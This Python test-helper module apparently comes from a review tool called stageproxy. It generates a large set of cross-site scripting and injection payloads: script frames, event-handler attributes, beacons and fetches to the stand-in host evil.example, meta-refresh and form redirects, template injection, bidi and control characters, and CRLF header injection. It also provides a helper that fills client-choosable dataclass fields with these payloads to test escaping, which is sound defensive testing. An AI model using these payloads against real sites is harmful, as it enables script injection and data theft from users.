"""Texts that become active where they are not escaped, and values that are full of them.

Each asks a host that does not exist, opens a dialog, or turns what is around it.
"""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from itertools import product
from typing import Any, TypeVar

from stageproxy.core.review.impact.impact import Choice

T = TypeVar("T")

HOST = "//evil.example"
_ACTIONS = (
    "alert(1)",
    f"new Image().src='{HOST}/x'",
    f"fetch('{HOST}/x')",
    f"location='{HOST}/x'",
    "document.title='taken'",
)
_FRAMES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</pre></code><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "<svg onload={}>",
    "<svg><script href=data:,{} />",
    "<details open ontoggle={}>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<math><mtext><style><img src=x onerror={}></style>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
)
_OTHERS = (
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<p style=background:url({HOST}/x)>",
    f"<base href={HOST}/>",
    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    f"<form action={HOST}/><button>Publish</button></form>",
    f"<img src={HOST}/x.png>",
    f"<img srcset='{HOST}/x.png 2x'>",
    f"<video poster={HOST}/x.png>",
    f"<object data={HOST}/x>",
    f"<embed src={HOST}/x>",
    f"<svg><image href={HOST}/x.png /></svg>",
    f"<svg><use href={HOST}/x.svg#a /></svg>",
    f"<link rel=preload as=image href={HOST}/x.png>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"![x](https:{HOST}/x.png)",
    f".. image:: https:{HOST}/x.png",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    f"[x](javascript:alert(1)) [y](https:{HOST}/ 'x\" onmouseover=alert(1)')",
    "\u202egnp.exe\u202c\u2066abc\u2069",
    "\u200b\u2060\ufeff\u00ad",
    "a\x00b\x1b[31mc\x07\x7f\x9b",
    "\ud800\udfff",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "A" * 3000,
)
TEXTS = (*(frame.format(action) for frame, action in product(_FRAMES, _ACTIONS)), *_OTHERS)
"""All texts."""

_KEPT = frozenset({"path", "sha256", "blake2b_256", "md5", "manifest_digest"})
"""Fields that the server makes, so that no client can choose them."""


def filled(value: T, text: str) -> T:
    """Return a value with *text* in every text of it, however deep, that others can choose."""
    result: Any = _filled(value, text)
    return result  # type: ignore[no-any-return]


def _filled(value: Any, text: str) -> Any:
    if isinstance(value, str) and not isinstance(value, Enum):
        return text if value else value
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **dict(_changes(value, text)))
    if isinstance(value, tuple | list):
        return type(value)(_filled(one, text) for one in value)
    return value


def _changes(value: Any, text: str) -> Iterator[tuple[str, Any]]:
    # A version that was chosen was read from a filename, and compared: it is none otherwise.
    kept = {*_KEPT, "version"} if isinstance(value, Choice) else _KEPT
    for field in fields(value):
        if field.init and field.name not in kept:
            yield field.name, _filled(getattr(value, field.name), text)
